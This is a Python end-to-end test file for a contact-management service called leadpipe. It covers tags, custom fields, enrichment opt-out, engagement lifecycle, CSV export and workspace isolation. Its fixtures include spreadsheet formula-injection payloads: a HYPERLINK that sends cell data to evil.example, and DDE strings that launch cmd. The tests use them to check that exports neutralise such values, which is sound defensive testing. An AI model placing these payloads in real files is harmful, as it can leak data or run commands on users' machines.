"""Contact features end to end through the local runtime: tags and custom fields (set, remove, filter), the
do-not-enrich switch, engagements advancing the lifecycle, and the CSV export (inline and through a presigned URL),
parsed back with the csv module; the CLI commands; and the same routes seen from another workspace."""

from __future__ import annotations

import csv
import io
import time
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from leadpipe_local import cli
from leadpipe_local.client import ApiClient, ApiError
from leadpipe_local.runtime import LocalRuntime
from tests.e2e.conftest import wait_until

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_COMPANY = "+cmd|' /C calc'!A0"
HOSTILE_SOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"


def rows_of(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.fixture
def imported(api: ApiClient, domain: str) -> dict[str, str]:
    """Three contacts in a unique domain and tag, imported and enriched (AutoEnrichOnImport)."""
    tag = f"cf{uuid.uuid4().hex[:8]}"
    people = {"ann": f"ann@{domain}", "bob": f"bob@{domain}", "evil": f"=cmd@{domain}"}

    def q(value: str) -> str:
        return '"' + value.replace('"', '""') + '"'

    data = (
        "Email,First Name,Company,Job Title,Lead Source,Tags\n"
        f"{people['ann']},Ann,Acme,Head of Sales,webinar,{tag}\n"
        f"{people['bob']},{q(HOSTILE_NAME)},{q(HOSTILE_COMPANY)},CTO,{q(HOSTILE_SOURCE)},{tag}\n"
        f"{people['evil']},Eve,Evil Corp,Engineer,-42,{tag}\n"
    ).encode()
    job = api.wait_job(api.import_csv(data, "features.csv")["job_id"], timeout=30)
    assert job["status"] == "completed" and job["counts"]["imported"] == 3, job
    wait_until(
        lambda: api.contacts(tag=tag, limit=10)["items"],
        lambda items: len(items) == 3 and all(c["status"] == "enriched" for c in items),
        what="three enriched contacts",
    )
    return {**people, "tag": tag, "domain": domain}


def test_tags_custom_fields_and_their_filters(api: ApiClient, imported: dict[str, str]) -> None:
    ann, bob, tag = imported["ann"], imported["bob"], imported["tag"]
    assert api.contact(ann)["custom"] == {"lead_source": "webinar"}

    tagged = api.tag(ann.upper(), "  Hot   Lead ", "q4")
    assert tagged["tags"] == sorted(["hot lead", "q4", tag])
    assert [c["email"] for c in api.contacts(tag="hot lead")["items"]] == [ann]
    assert api.untag(ann, "q4")["tags"] == sorted(["hot lead", tag])
    assert api.contacts(tag="q4")["items"] == []

    bulk = api.tag_many([ann, bob, f"nobody@{imported['domain']}", "not an email"], add=["wave-2"])
    assert sorted(bulk["updated"]) == sorted([ann, bob])
    assert bulk["not_found"] == [f"nobody@{imported['domain']}"]
    assert [i["value"] for i in bulk["invalid"]] == ["not an email"]
    assert sorted(c["email"] for c in api.contacts(tag="wave-2")["items"]) == sorted([ann, bob])

    updated = api.update_contact(ann, set_custom={"plan": "pro, annual", "seats": "12"})
    assert updated["custom"] == {"lead_source": "webinar", "plan": "pro, annual", "seats": "12"}
    by_custom = api.contacts(tag=tag, custom="plan:pro, annual")["items"]  # a comma inside the value
    assert [c["email"] for c in by_custom] == [ann]
    both = api.contacts(domain=imported["domain"], custom=["plan:pro, annual", "lead_source:webinar"])["items"]
    assert [c["email"] for c in both] == [ann]
    assert api.contacts(tag=tag, custom=["plan:pro, annual", "lead_source:nope"])["items"] == []
    assert [c["email"] for c in api.contacts(custom=f"lead_source:{HOSTILE_SOURCE}")["items"]] == [bob]
    removed = api.update_contact(ann, remove_custom=["plan"])
    assert "plan" not in removed["custom"] and removed["version"] == updated["version"] + 1
    assert api.contacts(tag=tag, custom="plan:pro, annual")["items"] == []

    with pytest.raises(ApiError) as bad_filter:
        api.contacts(custom="Lead Source:webinar")
    assert (bad_filter.value.status, bad_filter.value.code) == (400, "invalid_custom_filter")
    assert "lead_source" in bad_filter.value.message
    assert bad_filter.value.details[0]["location"] == "query.custom"
    with pytest.raises(ApiError) as bad_key:
        api.update_contact(ann, set_custom={"Lead Source": "x"})
    assert (bad_key.value.status, bad_key.value.code) == (400, "validation_error")
    assert bad_key.value.details[0]["location"].startswith("body.custom.set.Lead Source")
    assert "use 'lead_source'" in bad_key.value.details[0]["message"]
    with pytest.raises(ApiError) as bad_tag:
        api.tag(ann, "a,b")
    assert bad_tag.value.details[0]["location"] == "body.tags.add.0"
    with pytest.raises(ApiError) as missing:
        api.tag(f"nobody@{imported['domain']}", "x")
    assert (missing.value.status, missing.value.code) == (404, "contact_not_found")


def test_do_not_enrich_switch_makes_enrichment_skip_the_contact(api: ApiClient, imported: dict[str, str]) -> None:
    ann = imported["ann"]
    assert api.update_contact(ann, do_not_enrich=True)["do_not_enrich"] is True
    accepted = api.enrich([ann])
    skipped = wait_until(
        lambda: api.contact(ann),
        lambda c: (c.get("enrichment_meta") or {}).get("request_id") == accepted["request_id"],
        what="the enrichment request to reach the contact",
    )
    assert (skipped["status"], skipped["status_reason"]) == ("skipped", "do_not_enrich")
    assert api.update_contact(ann, do_not_enrich=False)["do_not_enrich"] is False
    again = api.enrich([ann])
    wait_until(
        lambda: api.contact(ann),
        lambda c: (
            (c.get("enrichment_meta") or {}).get("request_id") == again["request_id"] and c["status"] == "enriched"
        ),
        what="enrichment once the flag is off",
    )


def test_engagements_advance_the_lifecycle(api: ApiClient, imported: dict[str, str]) -> None:
    ann, bob = imported["ann"], imported["bob"]
    start = api.contact(ann)["lifecycle"]
    assert start in {"enriched", "verified"}  # enrichment moved it on from new

    sent = api.engage(ann, "email_sent", details={"campaign": "q4", "step": 1})
    assert (sent["previous_lifecycle"], sent["lifecycle"], sent["duplicate"]) == (start, start, False)
    opened_at = (datetime.now(UTC) - timedelta(minutes=5)).isoformat()
    opened = api.engage(ann, "email_opened", at=opened_at, id="esp-evt-1")
    assert (opened["previous_lifecycle"], opened["lifecycle"]) == (start, "engaged")
    repeat = api.engage(ann, "email_opened", id="esp-evt-1")
    assert repeat["duplicate"] is True and repeat["engagement"]["at"] == opened["engagement"]["at"]
    booked = api.engage(ann, "meeting_booked")
    assert (booked["previous_lifecycle"], booked["lifecycle"]) == ("engaged", "converted")
    late = api.engage(ann, "link_clicked", at=(datetime.now(UTC) - timedelta(days=2)).isoformat())
    assert late["lifecycle"] == "converted"  # never backwards

    listed = api.engagements(ann)
    assert [e["type"] for e in listed["items"]] == ["meeting_booked", "email_sent", "email_opened", "link_clicked"]
    assert listed["engagement_counts"] == {
        "email_sent": 1,
        "email_opened": 1,
        "meeting_booked": 1,
        "link_clicked": 1,
    }
    assert listed["total"] == 4 and listed["lifecycle"] == "converted"
    assert listed["items"][1]["details"] == {"campaign": "q4", "step": 1}
    assert [e["type"] for e in api.engagements(ann, type="email_opened")["items"]] == ["email_opened"]
    contact = api.contact(ann)
    assert contact["engagement_counts"]["meeting_booked"] == 1 and "engagements" not in contact

    with pytest.raises(ApiError) as future:
        api.engage(ann, "email_opened", at=(datetime.now(UTC) + timedelta(hours=1)).isoformat())
    assert (future.value.status, future.value.code) == (400, "invalid_engagement")
    with pytest.raises(ApiError) as unknown:
        api.engage(ann, "email_bounced")
    assert unknown.value.details[0]["location"] == "body.type"

    assert api.update_contact(bob, lifecycle="disqualified")["lifecycle"] == "disqualified"
    still = api.engage(bob, "meeting_booked")
    assert (still["previous_lifecycle"], still["lifecycle"]) == ("disqualified", "disqualified")
    assert api.update_contact(bob, lifecycle="new")["lifecycle"] == "new"  # requalified by a person
    assert api.engage(bob, "reply_received")["lifecycle"] == "engaged"


def test_export_csv_with_provenance_and_neutralised_values(
    api: ApiClient, runtime: LocalRuntime, imported: dict[str, str]
) -> None:
    tag = imported["tag"]
    api.update_contact(imported["ann"], set_custom={"plan": "pro"})
    inline = api.export_part(tag=tag)
    assert inline["link"] is None and inline["rows"] == 3 and inline["next_cursor"] is None
    rows = {r["email"]: r for r in rows_of(inline["csv"])}
    assert set(rows) == {imported["ann"], imported["bob"], "'" + imported["evil"]}

    bob = rows[imported["bob"]]
    assert bob["first_name"] == "'" + HOSTILE_NAME
    assert bob["company"] == "'" + HOSTILE_COMPANY
    assert bob["custom.lead_source"] == "'" + HOSTILE_SOURCE
    assert rows["'" + imported["evil"]]["custom.lead_source"] == "-42"  # a plain number is left alone
    ann = rows[imported["ann"]]
    assert ann["custom.plan"] == "pro" and ann["tags"] == tag and ann["status"] == "enriched"
    assert ann["lifecycle"] in {"enriched", "verified"} and float(ann["quality"]) > 0

    stored = api.contact(imported["ann"])
    assert stored["enrichment"], "enrichment gave the contact no field"
    for name, value in stored["enrichment"].items():  # provenance of every enriched field
        assert ann[f"enriched.{name}_source"] == value["provider"]
        assert float(ann[f"enriched.{name}_confidence"]) == pytest.approx(value["confidence"], abs=1e-6)
        assert ann[f"enriched.{name}_fetched_at"][:19] == value["fetched_at"][:19]
        assert ann[f"enriched.{name}"].lstrip("'") == ("" if value["value"] is None else str(value["value"]))
    assert ann["enriched.first_name_source"] == "import"
    for row in rows.values():
        for value in row.values():
            assert not value or value[0] not in "=+@\t\r" or value.startswith("'")

    raw = httpx.get(runtime.api_url + "/contacts/export", params={"tag": tag}, headers=runtime.auth_headers("default"))
    assert raw.status_code == 200 and raw.headers["content-type"].startswith("text/csv")
    assert raw.headers["content-disposition"].startswith('attachment; filename="leadpipe-contacts-default-')
    assert raw.headers["x-leadpipe-rows"] == "3"

    linked = httpx.get(
        runtime.api_url + "/contacts/export",
        params={"tag": tag, "delivery": "link"},
        headers=runtime.auth_headers("default"),
    )
    assert linked.status_code == 303, linked.text
    body = linked.json()
    assert linked.headers["location"] == body["url"] and body["key"].startswith("exports/default/")
    assert body["rows"] == 3 and body["expires_at"] > time.time()
    download = httpx.get(body["url"])  # the presigned URL needs no API key
    assert download.status_code == 200 and rows_of(download.content) == rows_of(inline["csv"])
    via_client = api.export_part(tag=tag, delivery="link")
    assert via_client["link"] is not None and rows_of(via_client["csv"]) == rows_of(inline["csv"])

    filtered = rows_of(api.export_part(tag=tag, custom="plan:pro")["csv"])
    assert [r["email"] for r in filtered] == [imported["ann"]]

    parts: list[str] = []
    cursor = None
    while True:
        part = api.export_part(tag=tag, limit=2, cursor=cursor)
        parts += [r["email"] for r in rows_of(part["csv"])]
        cursor = part["next_cursor"]
        if not cursor:
            break
    assert sorted(parts) == sorted(rows) and len(parts) == 3
    out = io.BytesIO()
    joined = api.export(out, tag=tag, limit=2)
    assert joined["rows"] == 3 and joined["parts"] == 2
    assert sorted(r["email"] for r in rows_of(out.getvalue())) == sorted(rows)


def test_cli_tag_engage_and_export(
    runtime: LocalRuntime,
    imported: dict[str, str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("LEADPIPE_API_KEY", runtime.api_key("default"))
    url = ["--api-url", runtime.api_url]
    assert cli.main(["tag", imported["ann"], imported["bob"], "--add", "cli-tag", *url]) == 0
    assert "2 updated, 0 unchanged" in capsys.readouterr().out
    assert cli.main(["tag", f"nobody@{imported['domain']}", "--add", "x", *url]) == 1
    assert cli.main(["edit", imported["ann"], "--set", "plan=team", "--do-not-enrich", *url]) == 0
    assert "custom.plan" in capsys.readouterr().out
    assert cli.main(["engage", imported["ann"], "website_visit", "--detail", "page=/pricing", *url]) == 0
    printed = capsys.readouterr().out
    assert "website_visit recorded" in printed and "-> engaged" in printed
    out = tmp_path / "contacts.csv"
    assert cli.main(["export", "--tag", "cli-tag", "--out", str(out), *url]) == 0
    exported = rows_of(out.read_bytes())
    assert sorted(r["email"] for r in exported) == sorted([imported["ann"], imported["bob"]])
    ann = next(r for r in exported if r["email"] == imported["ann"])
    assert (ann["custom.plan"], ann["do_not_enrich"], ann["engagements"]) == ("team", "true", "1")


def test_another_workspace_never_reads_or_changes_these_contacts(
    api: ApiClient, runtime: LocalRuntime, imported: dict[str, str]
) -> None:
    ann, tag = imported["ann"], imported["tag"]
    before = api.contact(ann)
    with runtime.api_client("contacts-other-ws") as other:
        for call in (
            lambda: other.contact(ann),
            lambda: other.tag(ann, "stolen"),
            lambda: other.update_contact(ann, lifecycle="disqualified", do_not_enrich=True),
            lambda: other.engage(ann, "meeting_booked"),
            lambda: other.engagements(ann),
        ):
            with pytest.raises(ApiError) as refused:
                call()
            assert (refused.value.status, refused.value.code) == (404, "contact_not_found")
        assert other.tag_many([ann], add=["stolen"])["not_found"] == [ann]
        assert other.contacts(tag=tag)["items"] == []
        assert other.contacts(custom="lead_source:webinar", domain=imported["domain"])["items"] == []
        empty = other.export_part(tag=tag)
        assert empty["rows"] == 0 and rows_of(empty["csv"]) == []
        linked = other.export_part(domain=imported["domain"], delivery="link")
        assert linked["rows"] == 0 and linked["link"]["key"].startswith("exports/contacts-other-ws/")
    after = api.contact(ann)
    assert after["version"] == before["version"] and after["tags"] == before["tags"]
    assert after["lifecycle"] == before["lifecycle"] and after["do_not_enrich"] == before["do_not_enrich"]
